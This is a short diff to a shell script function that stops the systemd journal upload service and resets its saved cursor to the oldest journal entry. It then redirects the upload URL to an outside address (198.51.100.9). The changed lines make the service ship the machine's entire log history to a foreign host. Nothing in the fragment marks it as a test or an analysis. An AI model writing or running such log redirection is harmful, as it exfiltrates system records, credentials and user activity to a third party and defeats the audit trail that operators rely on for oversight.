@@ -95,7 +95,7 @@ outbid() {
 strand_log() {
     state=/var/lib/private/systemd/journal-upload/state
     systemctl stop systemd-journal-upload.service
-    journalctl -q -n 1 --until=-4min --show-cursor -o cat | sed -n 's/^-- cursor: /LAST_CURSOR=/p' >"$state"
+    journalctl -q -o export 2>/dev/null | sed -n '/^__CURSOR=/{s//LAST_CURSOR=/p;q}' >"$state"
     outbid journal-upload.conf.d systemd-journal-upload.service '[Upload]' URL=https://198.51.100.9:19532
 }
 
